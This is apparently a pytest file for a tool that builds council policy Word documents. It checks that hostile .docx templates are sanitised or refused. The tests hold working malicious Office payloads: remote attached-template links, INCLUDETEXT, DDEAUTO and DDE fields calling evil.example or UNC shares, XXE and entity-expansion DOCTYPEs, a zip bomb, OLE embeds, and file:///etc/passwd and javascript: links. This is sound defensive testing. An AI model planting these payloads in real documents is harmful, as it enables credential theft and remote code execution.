"""A hostile reference template: nothing that fetches content rides into the policy, and its XML is parsed safely.

Each template is the bundled one with a header added by python-docx, then one part patched the way a
hostile or careless author would: an attached-template link (kept out of the policy), an INCLUDETEXT
field split over runs, a DDEAUTO simple field, a linked picture, a file:// link, an undefined entity,
a DOCTYPE. `check-docx` must flag whatever of these is in a finished Word file.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import PROFILES, ROOT
from docx import Document

from policy_builder.checks.docx_check import check_docx
from policy_builder.cli import main
from policy_builder.core.errors import display_path

EXAMPLE = PROFILES / "example-council.yaml"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_header(tmp_path: Path) -> bytes:
    document = Document(str(ROOT / "templates" / "reference.docx"))
    document.sections[0].header.paragraphs[0].text = "Eastbrook Council HEADERTEXT"
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def patch(data: bytes, **parts: bytes | tuple[bytes, bytes]) -> bytes:
    """The package with parts replaced (bytes) or edited ((old, new): first occurrence)."""
    names = {key.replace("__", "/").replace("_DOT_", "."): value for key, value in parts.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info.filename)
            change = names.pop(info.filename, None)
            if isinstance(change, tuple):
                assert change[0] in content, (info.filename, change[0])
                content = content.replace(change[0], change[1], 1)
            elif change is not None:
                content = change
            target.writestr(info, content)
        for name, content in names.items():
            assert isinstance(content, bytes)
            target.writestr(name, content)
    return out.getvalue()


def header_name(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return next(n for n in archive.namelist() if n.startswith("word/header"))


def header_rels(data: bytes, *relationships: str) -> tuple[str, bytes]:
    name = header_name(data)
    rels = "".join(relationships)
    xml = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>'
    return name.replace("word/", "word/_rels/") + ".rels", xml.encode()


def build(template: Path, out: Path):
    return CliRunner().invoke(main, ["build", str(EXAMPLE), "--out", str(out), "--reference-docx", str(template)])


def one_error(result) -> str:
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    errors = [line for line in result.output.splitlines() if line.startswith("Error: ")]
    assert len(errors) == 1, result.output
    return errors[0]


def refused(tmp_path: Path, data: bytes, *words: str) -> str:
    template = tmp_path / "hostile.docx"
    template.write_bytes(data)
    out = tmp_path / "out"
    line = one_error(build(template, out))
    assert line.startswith(f"Error: {display_path(template)}: "), line
    for word in words:
        assert word in line, (word, line)
    assert not out.exists() or not list(out.iterdir()), "a refused template still wrote files"
    return line


ATTACHED = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId99" Type="{RELS}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
    "</Relationships>"
).encode()


def test_an_attached_template_link_is_dropped_and_the_policy_built(tmp_path):
    data = patch(
        with_header(tmp_path),
        word__settings_DOT_xml=(b"<w:zoom", b'<w:attachedTemplate r:id="rId99"/><w:zoom'),
        word___rels__settings_DOT_xml_DOT_rels=ATTACHED,
    )
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"attachedTemplate" in archive.read("word/settings.xml")
    template = tmp_path / "attached.docx"
    template.write_bytes(data)
    out = tmp_path / "out"
    result = build(template, out)
    assert result.exit_code == 0, result.output
    policy = out / "eastbrook-council-social-media-policy.docx"
    with zipfile.ZipFile(policy) as archive:
        everything = b"".join(archive.read(n) for n in archive.namelist() if n.endswith((".xml", ".rels")))
    assert b"evil.example" not in everything and b"attachedTemplate" not in everything
    assert b"HEADERTEXT" in everything  # the employer's header is kept
    assert check_docx(policy.read_bytes()).problems == []


def test_an_includetext_field_split_over_runs_in_the_header_is_refused(tmp_path):
    data = with_header(tmp_path)
    field = (
        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
        b'<w:r><w:instrText>TEXT "\\\\\\\\evil\\\\share\\\\x.docx"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        b'<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    hostile = patch(data, **{header_name(data).replace("/", "__").replace(".", "_DOT_"): (b"</w:p>", field)})
    refused(tmp_path, hostile, header_name(data), "an INCLUDETEXT field", "remove it from the template")


@pytest.mark.parametrize("field", ["DDEAUTO", "INCLUDEPICTURE", "LINK", "DDE"])
def test_a_simple_field_that_fetches_content_is_refused(tmp_path, field):
    data = with_header(tmp_path)
    simple = f'<w:fldSimple w:instr=" {field} &quot;http://evil.example/x&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    hostile = patch(data, **{header_name(data).replace("/", "__").replace(".", "_DOT_"): (b"</w:p>", simple.encode())})
    refused(tmp_path, hostile, f" {field} field")


def test_a_linked_picture_and_a_file_link_are_refused(tmp_path):
    data = with_header(tmp_path)
    name, rels = header_rels(
        data,
        f'<Relationship Id="rId7" Type="{RELS}/image" Target="http://evil.example/pixel.png" TargetMode="External"/>',
    )
    refused(
        tmp_path, patch(data, **{name.replace("/", "__").replace(".", "_DOT_"): rels}), "image fetched from outside"
    )
    name, rels = header_rels(
        data, f'<Relationship Id="rId8" Type="{RELS}/hyperlink" Target="file://evil/share" TargetMode="External"/>'
    )
    refused(tmp_path, patch(data, **{name.replace("/", "__").replace(".", "_DOT_"): rels}), "file://evil/share")


def test_a_web_link_in_the_header_is_kept(tmp_path):
    data = with_header(tmp_path)
    name, rels = header_rels(
        data,
        f'<Relationship Id="rId8" Type="{RELS}/hyperlink" Target="https://eastbrook.gov.uk" TargetMode="External"/>',
    )
    template = tmp_path / "linked.docx"
    template.write_bytes(patch(data, **{name.replace("/", "__").replace(".", "_DOT_"): rels}))
    assert build(template, tmp_path / "out").exit_code == 0


def test_a_header_with_an_undefined_entity_is_one_line_not_a_corrupt_docx(tmp_path):
    data = with_header(tmp_path)
    hostile = patch(data, **{header_name(data).replace("/", "__").replace(".", "_DOT_"): (b"HEADERTEXT", b"&xxe;")})
    refused(tmp_path, hostile, header_name(data), "not well-formed XML", "Entity 'xxe' not defined")


def test_a_doctype_with_entities_is_refused_not_expanded(tmp_path):
    data = with_header(tmp_path)
    bomb = b'<!DOCTYPE w:hdr [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    name = header_name(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read(name)
    xml = xml.replace(b"?>", b"?>" + bomb, 1).replace(b"HEADERTEXT", b"&b;")
    hostile = patch(data, **{name.replace("/", "__").replace(".", "_DOT_"): xml})
    refused(tmp_path, hostile, name, "declares a DOCTYPE")


def test_fields_in_the_template_body_are_cleared_with_it(tmp_path):
    data = with_header(tmp_path)
    body = b'<w:p><w:fldSimple w:instr=" INCLUDETEXT x.docx "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p><w:sectPr'
    template = tmp_path / "body.docx"
    template.write_bytes(patch(data, word__document_DOT_xml=(b"<w:sectPr", body)))
    out = tmp_path / "out"
    assert build(template, out).exit_code == 0
    with zipfile.ZipFile(out / "eastbrook-council-social-media-policy.docx") as archive:
        assert b"INCLUDETEXT" not in archive.read("word/document.xml")


def test_check_docx_flags_what_reaches_out_of_a_finished_file(example_documents, tmp_path):
    policy = example_documents["example-council"]["policy"]
    assert check_docx(policy).problems == []
    hostile = patch(
        policy,
        word__settings_DOT_xml=(b"<w:zoom", b'<w:attachedTemplate r:id="rId99"/><w:zoom'),
        word___rels__settings_DOT_xml_DOT_rels=ATTACHED,
        word__document_DOT_xml=(
            b"</w:body>",
            b'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:body>',
        ),
    )
    problems = [p for p in check_docx(hostile).problems if "outside itself" in p]
    assert len(problems) == 1
    assert "attached template (https://evil.example/t.dotm)" in problems[0]
    assert "word/document.xml: an INCLUDETEXT field" in problems[0]
    path = tmp_path / "hostile.docx"
    path.write_bytes(hostile)
    result = CliRunner().invoke(main, ["check-docx", str(path)])
    assert result.exit_code == 1 and "fetches content from outside itself" in result.output


def test_a_template_part_that_would_unpack_to_gigabytes_is_refused_before_it_is_read(tmp_path):
    data = with_header(tmp_path)
    bomb = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info.filename))
        with target.open("word/glossary.xml", "w") as part:  # 100 MB of spaces: a few hundred KB packed
            chunk = b" " * (1024 * 1024)
            for _ in range(100):
                part.write(chunk)
    refused(tmp_path, bomb.getvalue(), "word/glossary.xml would unpack to 100 MB; the most a part may hold is 64 MB")


def _in_header(data: bytes, old: bytes, new: bytes) -> bytes:
    return patch(data, **{header_name(data).replace("/", "__").replace(".", "_DOT_"): (old, new)})


def test_embedded_objects_altchunks_and_mail_merges_are_refused(tmp_path):
    """The fresh-eyes attack's bypasses (F7): embedded parts and a mail merge are refused, not copied in."""
    data = with_header(tmp_path)
    for kind, target, words in [
        ("aFChunk", "chunk.html", "an altChunk"),
        ("oleObject", "embeddings/oleObject1.bin", "an embedded OLE object"),
        ("package", "embeddings/x.xlsx", "an embedded package"),
    ]:
        name, rels = header_rels(data, f'<Relationship Id="rId9" Type="{RELS}/{kind}" Target="{target}"/>')
        refused(tmp_path, patch(data, **{name.replace("/", "__").replace(".", "_DOT_"): rels}), words)
    merge = b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString w:val="\\\\evil\\s\\db.xlsx"/></w:mailMerge><w:zoom'
    refused(tmp_path, patch(data, word__settings_DOT_xml=(b"<w:zoom", merge)), "word/settings.xml", "a mail merge")


@pytest.mark.parametrize("target", ["\\\\\\\\evil\\\\share\\\\x", "file:///etc/passwd", "javascript:alert(1)"])
def test_a_hyperlink_field_to_a_share_or_file_is_refused_and_a_web_one_kept(tmp_path, target):
    data = with_header(tmp_path)
    field = f'<w:fldSimple w:instr=" hyperlink &quot;{target}&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    refused(tmp_path, _in_header(data, b"</w:p>", field.encode()), "a HYPERLINK field")
    web = '<w:fldSimple w:instr=" HYPERLINK &quot;https://eastbrook.gov.uk&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    template = tmp_path / "web.docx"
    template.write_bytes(_in_header(data, b"</w:p>", web.encode()))
    assert build(template, tmp_path / "web-out").exit_code == 0


def test_a_picture_that_inflates_far_past_its_size_is_refused(tmp_path):
    """F20: the template is held to the limits check-docx reads a Word file with, so no policy is built that it refuses."""
    data = patch(with_header(tmp_path), word__media__big_DOT_bmp=bytes(2 * 1024 * 1024))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.getinfo("word/media/big.bmp").compress_type == zipfile.ZIP_STORED  # patch() stores parts
    stored = tmp_path / "stored.docx"
    stored.write_bytes(data)
    deflated = io.BytesIO()
    with zipfile.ZipFile(stored) as source, zipfile.ZipFile(deflated, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename))
    refused(tmp_path, deflated.getvalue(), "word/media/big.bmp", "more than 200 times its size")


def test_a_sanitised_template_kept_between_runs_still_builds_without_its_link_and_a_refused_one_is_not_kept(
    tmp_path, cache
):
    from policy_builder.render.docx import template as template_module

    data = patch(
        with_header(tmp_path),
        word__settings_DOT_xml=(b"<w:zoom", b'<w:attachedTemplate r:id="rId99"/><w:zoom'),
        word___rels__settings_DOT_xml_DOT_rels=ATTACHED,
    )
    template = tmp_path / "attached.docx"
    template.write_bytes(data)
    for run in ("first", "second"):  # the second as a new process, from what the first kept
        template_module._prepared.cache_clear()
        out = tmp_path / run
        assert build(template, out).exit_code == 0
        with zipfile.ZipFile(out / "eastbrook-council-social-media-policy.docx") as archive:
            everything = b"".join(archive.read(n) for n in archive.namelist() if n.endswith((".xml", ".rels")))
        assert b"evil.example" not in everything and b"attachedTemplate" not in everything, run
        assert b"HEADERTEXT" in everything
    assert len(list((cache / "docx").glob("*.bin"))) == 1
    plain = with_header(tmp_path)
    name, rels = header_rels(
        plain,
        f'<Relationship Id="rId7" Type="{RELS}/image" Target="http://evil.example/pixel.png" TargetMode="External"/>',
    )
    hostile = patch(plain, **{name.replace("/", "__").replace(".", "_DOT_"): rels})
    refused(tmp_path, hostile, "fetched from outside")
    template_module._prepared.cache_clear()
    refused(tmp_path, hostile, "fetched from outside")  # still refused in the next run: nothing was kept of it
    assert len(list((cache / "docx").glob("*.bin"))) == 1
